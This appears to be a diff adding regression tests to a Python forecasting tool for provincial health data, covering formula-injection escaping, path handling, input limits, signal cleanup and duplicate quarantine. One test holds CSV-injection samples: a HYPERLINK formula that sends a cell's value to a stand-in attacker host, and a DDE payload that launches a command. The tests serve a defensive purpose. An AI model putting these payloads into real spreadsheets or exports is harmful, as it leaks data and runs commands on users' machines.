@@ -726,3 +726,224 @@ def test_a_malformed_scheduler_address_is_one_line_at_once(tmp_path, small_store
     assert result.returncode == 1, result.stderr
     one_line_error(result, address, "is not a Dask scheduler address", "tcp://HOST:PORT")
     assert took < 45 and not (tmp_path / "reports").exists()
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _risky_cells(rows: list[list[str]]) -> list[str]:
+    from forecast.outputs import risky
+
+    return [c for row in rows for c in row if risky(c)]
+
+
+def test_imported_text_never_runs_as_a_formula(tmp_path):
+    """D6: a source starting with '=' became a live formula in briefs/<province>.series.xlsx, and the
+    quarantine CSV wrote such cells raw (OWASP CSV injection). Negative numbers stay numbers."""
+    import csv
+
+    import openpyxl
+    import pandas as pd
+
+    from forecast.report.publish import downloads
+
+    if not (SHARED / "vn_provinces.csv").exists():
+        pytest.skip(f"no shared data at {SHARED}")
+    real = pd.read_csv(SHARED / "vn_provinces.csv")
+    mine = real[(real["geo"] == "Hà Nam") & (real["indicator"] == "imr")].assign(source=EVIL)
+    bad = mine.head(3).assign(geo=["=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0"], year=[2001, 2002, 2003])
+    path, edited = tmp_path / "store.duckdb", tmp_path / "edited.csv"
+    pd.concat([mine, bad]).to_csv(edited, index=False)
+    summary = store.import_files([edited], path)
+    assert summary.loc[0, "imported"] == len(mine) and summary.loc[0, "quarantined"] == 3
+    with store.quarantine_path(path).open(encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f))
+    assert not _risky_cells(rows) and {"'=1+2", "'@SUM(A1)"} <= {c for r in rows for c in r}
+    obs = store.load_observations(path, "Hà Nam", "imr")
+    assert set(obs["source"]) == {EVIL}  # the store keeps what was imported
+    table = downloads.series_table([("IMR", obs, pd.DataFrame(), pd.DataFrame())]).assign(
+        rate=-3.25, rate_text="-3.25"
+    )
+    csv_file, xlsx_file = downloads.write_table(table, tmp_path / "ha-nam.series")
+    with csv_file.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    assert not _risky_cells(rows) and rows[1][rows[0].index("rate")] == "-3.25"
+    assert rows[1][rows[0].index("source")] == "'" + EVIL
+    sheet = openpyxl.load_workbook(xlsx_file).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
+    first = [c for c in next(sheet.iter_rows(min_row=2, max_row=2))]
+    assert first[header.index("source")].value == EVIL and first[header.index("source")].data_type == "s"
+    assert first[header.index("rate")].value == -3.25 and first[header.index("rate")].data_type == "n"
+
+
+def _real_rows(geo: str, indicator: str):
+    import pandas as pd
+
+    if not (SHARED / "vn_provinces.csv").exists():
+        pytest.skip(f"no shared data at {SHARED}")
+    real = pd.read_csv(SHARED / "vn_provinces.csv")
+    return real[(real["geo"] == geo) & (real["indicator"] == indicator)].reset_index(drop=True)
+
+
+def test_a_store_path_that_is_not_utf8_is_one_line(tmp_path):
+    """D8: a store path with bytes that are not UTF-8 ended in `RuntimeError: std::bad_cast`."""
+    path = os.fsdecode(os.fsencode(tmp_path) + b"/st\xff\xfe.duckdb")
+    for args in (["data", "status"], ["data", "import", str(TIDY)], ["run", "--as-of", "2026Q4"]):
+        result = forecast("--store", path, *args)
+        assert result.returncode == 1, result.stderr
+        one_line_error(result, "st\\xff\\xfe.duckdb", "is not valid UTF-8", "--store")
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("rate", ["nan", "inf", "-inf", "1e308", "-100"])
+def test_a_scenario_rate_outside_the_data_is_refused_before_the_run(tmp_path, store_copy, rate):
+    """D11: `--scenario rate=nan` or `rate=1e308` were accepted: empty results, no message."""
+    before = table_hashes(store_copy)
+    out = tmp_path / "what-if.csv"
+    start = time.monotonic()
+    result = forecast(
+        "--store",
+        str(store_copy),
+        "run",
+        "--as-of",
+        "2026Q4",
+        "--scenario",
+        f"rate={rate}",
+        "--scenario-out",
+        str(out),
+    )
+    assert result.returncode == 1, result.stderr
+    one_line_error(result, f"rate={rate}", "rate=-")
+    assert time.monotonic() - start < 60 and not out.exists()  # before any forecast
+    assert table_hashes(store_copy) == before  # no run saved
+
+
+def test_a_scenario_rate_is_checked_against_the_observed_rates():
+    from forecast.assess.scenarios import check_rates, observed_rates
+    from forecast.errors import ValidationError
+
+    obs = _real_rows("Hà Nam", "imr")
+    seen = observed_rates(obs)["rate"]
+    check_rates(["rate=-3", "national"], obs)  # IMR in Hà Nam fell about 3 %/yr
+    with pytest.raises(ValidationError, match="outside the annual rates observed"):
+        check_rates([f"rate={seen.max() + 50:g}"], obs)
+
+
+def test_jobs_beyond_the_cores_are_capped_with_a_warning(tmp_path, small_store):
+    """D12: `--jobs 1000` started a kernel per notebook at once (14 kernels on 2 cores, +2.4 GB)."""
+    from forecast.report.publish.executors import cores
+
+    out = tmp_path / "r"
+    result = fake_report(
+        EMPTY,
+        "--store",
+        str(small_store),
+        "report",
+        "--quarter",
+        "2026Q4",
+        "--out",
+        str(out),
+        "--jobs",
+        "1000",
+    )
+    assert result.returncode == 0, result.stderr
+    assert (
+        f"--jobs 1000 is more than the {cores()} cores of this machine: using {cores()} workers"
+        in result.stderr
+    )
+    manifest = json.loads((out / "2026Q4" / "manifest.json").read_text(encoding="utf-8"))
+    assert manifest["settings"]["jobs"] == cores() and manifest["settings"]["executor"]["workers"] == cores()
+
+
+def test_a_workbook_formula_without_a_saved_value_is_quarantined_and_a_hidden_sheet_noticed(tmp_path):
+    """D13: formulas with no cached value counted as "missing" with no reason; a hidden sheet was
+    imported without notice."""
+    import openpyxl
+
+    hanam, lamdong = _real_rows("Hà Nam", "imr"), _real_rows("Lâm Đồng", "imr")
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Số liệu"
+    sheet.append(list(hanam.columns))
+    for row in hanam.itertuples(index=False):
+        sheet.append(list(row))
+    sheet["D3"] = "=D2*0.97"  # written by a program that does not calculate: no saved value
+    other = book.create_sheet("cũ")
+    other.append(list(lamdong.columns))
+    for row in lamdong.itertuples(index=False):
+        other.append(list(row))
+    other.sheet_state = "hidden"
+    path = tmp_path / "hanam.xlsx"
+    book.save(path)
+    result = forecast("--store", str(tmp_path / "s.duckdb"), "data", "import", str(path))
+    assert result.returncode == 0, result.stderr
+    assert "sheet 'cũ' is hidden" in result.stderr
+    summary = store.import_files([path], tmp_path / "again.duckdb")
+    assert summary.loc[0, "imported"] == len(hanam) - 1 + len(lamdong)
+    assert summary.loc[0, "missing"] == 0 and summary.loc[0, "quarantined"] == 1
+    [reason] = store.load_quarantine(tmp_path / "again.duckdb")["reason"]
+    assert "cell D3 holds a formula (=D2*0.97) with no saved value" in reason
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
+def test_sigterm_removes_the_folders_the_report_made_and_only_those(tmp_path, small_store):
+    """D14: after SIGTERM the message said "--out is unchanged" but nested folders it created remained."""
+    slow = tmp_path / "slow.ipynb"
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [
+        nbformat.v4.new_code_cell("x = 1", metadata={"tags": ["parameters"]}),
+        nbformat.v4.new_code_cell("import time\ntime.sleep(120)"),
+    ]
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    nbformat.write(nb, slow)
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "keep.txt").write_text("mine")
+    out = mine / "new" / "deeper"
+    args = ["--store", str(small_store), "report", "--quarter", "2026Q4", "--province", "Hà Nam"]
+    proc = fake_report(slow, *args, "--out", str(out), "--jobs", "1", background=True)
+    try:
+        deadline = time.monotonic() + 120
+        while time.monotonic() < deadline and not list(out.glob(".2026Q4.tmp-*/_work")):
+            time.sleep(0.5)
+        time.sleep(3)
+        proc.send_signal(signal.SIGTERM)
+        _, err = proc.communicate(timeout=60)
+        assert proc.returncode == 128 + signal.SIGTERM, err
+        assert "nothing was published" in err and "Traceback" not in err
+        assert sorted(p.name for p in mine.iterdir()) == ["keep.txt"]  # new/deeper gone, mine kept
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            proc.kill()
+        for p in _descendants(proc.pid):
+            with contextlib.suppress(ProcessLookupError):
+                os.kill(p, signal.SIGKILL)
+
+
+def test_every_copy_of_a_conflicting_row_is_quarantined(tmp_path):
+    """D15: a third copy of a conflicting duplicate was counted "duplicate" while its twin was quarantined."""
+    import pandas as pd
+
+    rows = _real_rows("Hà Nam", "imr")
+    first = rows.iloc[[0]]
+    twin = first.assign(value=first["value"] * 1.5)
+    pd.concat([rows, twin, first]).to_csv(tmp_path / "edited.csv", index=False)  # value, other value, value
+    path = tmp_path / "store.duckdb"
+    summary = store.import_files([tmp_path / "edited.csv"], path)
+    assert summary.loc[0, "imported"] == len(rows) - 1 and summary.loc[0, "duplicate"] == 0
+    assert summary.loc[0, "quarantined"] == 3 and summary.loc[0, "reasons"] == "conflicting duplicate: 3"
+    assert int(first["year"].iloc[0]) not in {r[2] for r in observations(path)}
+
+
+def test_backtest_horizon_past_the_horizon_end_is_refused(tmp_path, series_csv):
+    """D16: `backtest --horizon 100000` was accepted (700,000 rows)."""
+    out = tmp_path / "bt.csv"
+    start = time.monotonic()
+    result = forecast(
+        "backtest", "--input", str(series_csv), "--origin", "2013", "--horizon", "100000", "--out", str(out)
+    )
+    assert result.returncode == 1, result.stderr
+    one_line_error(result, "horizon 100000", "past 2035", "--horizon 22 or less")
+    assert time.monotonic() - start < 30 and not out.exists()
